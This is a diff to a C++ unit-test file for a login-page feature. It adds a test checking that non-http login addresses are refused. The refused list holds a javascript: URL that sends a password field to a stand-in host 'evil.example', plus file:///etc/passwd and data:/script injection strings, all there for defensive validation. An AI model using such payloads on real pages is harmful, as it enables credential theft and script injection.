@@ -231,6 +231,7 @@ TEST(OpenLogin, WritesAPrivatePageThenOpensIt)
     ::chmod(path.c_str(), 0644);
 
     auto network = Network("A", { "P" });
+    network->LoginURL = "https://a.example/login";
     RecordingBrowser browser;
     ASSERT_TRUE(OpenLogin(*network->FindLogin("P"), path, browser).ok);
     std::string written;
@@ -252,6 +253,7 @@ TEST(OpenLogin, ALinkAtThePageNameIsReplacedNeverFollowed)
     ASSERT_EQ(::symlink(victim.c_str(), path.c_str()), 0);
 
     auto network = Network("A", { "P" });
+    network->LoginURL = "https://a.example/login";
     RecordingBrowser browser;
     ASSERT_TRUE(OpenLogin(*network->FindLogin("P"), path, browser).ok);
     std::string written;
@@ -267,9 +269,52 @@ TEST(OpenLogin, ALinkAtThePageNameIsReplacedNeverFollowed)
 TEST(OpenLogin, AFailedWriteOpensNoWindow)
 {
     auto network = Network("A", { "P" });
+    network->LoginURL = "https://a.example/login";
     RecordingBrowser browser;
     EXPECT_FALSE(OpenLogin(*network->FindLogin("P"), "/nonexistent-folder/x/pw.html", browser).ok);
     EXPECT_TRUE(browser.opened.empty());
+}
+
+// The login page posts the password to the network's address and runs in the
+// browser: an address that is a script, a local file or has no host would
+// hand the password (and the page's rights) to whoever wrote it. Whether it
+// came from a definitions file or was typed in the networks dialog, such a
+// login writes no page and opens no window.
+TEST(OpenLogin, AnAddressThatIsNotHttpWithAHostIsRefused)
+{
+    const std::string refused[] = {
+        "",
+        "javascript:fetch('https://evil.example/?'+document.forms[0].pw.value)",
+        " JavaScript:alert(1)",
+        "java\tscript:alert(1)",
+        "file:///etc/passwd",
+        "//evil.example/login",
+        "data:text/html,<script>alert(1)</script>",
+        "https://",
+        "http:/evil.example/",
+        "login.php",
+        "https://a.example:99999/",
+        "https://a.example:8x/",
+    };
+    test::TempDir dir;
+    for (const std::string& url : refused) {
+        SCOPED_TRACE(url);
+        auto network = Network("A", { "P" });
+        network->LoginURL = url;
+        RecordingBrowser browser;
+        const std::string path = dir.file("pw.html");
+        const Status opened = OpenLogin(*network->FindLogin("P"), path, browser);
+        EXPECT_FALSE(opened.ok);
+        EXPECT_NE(codec::DecodeSjis(opened.error).find("http: または https:"), std::string::npos) << opened.error;
+        EXPECT_TRUE(browser.opened.empty());
+        EXPECT_FALSE(FileExists(path));
+    }
+    for (const std::string url :
+        { "https://a.example/login", "HTTP://A.Example:8080/x?y=1", "http://[::1]:80/" }) {
+        auto network = Network("A", { "P" });
+        network->LoginURL = url;
+        EXPECT_TRUE(CheckLoginAddress(*network->FindLogin("P")).ok) << url;
+    }
 }
 
 } // namespace
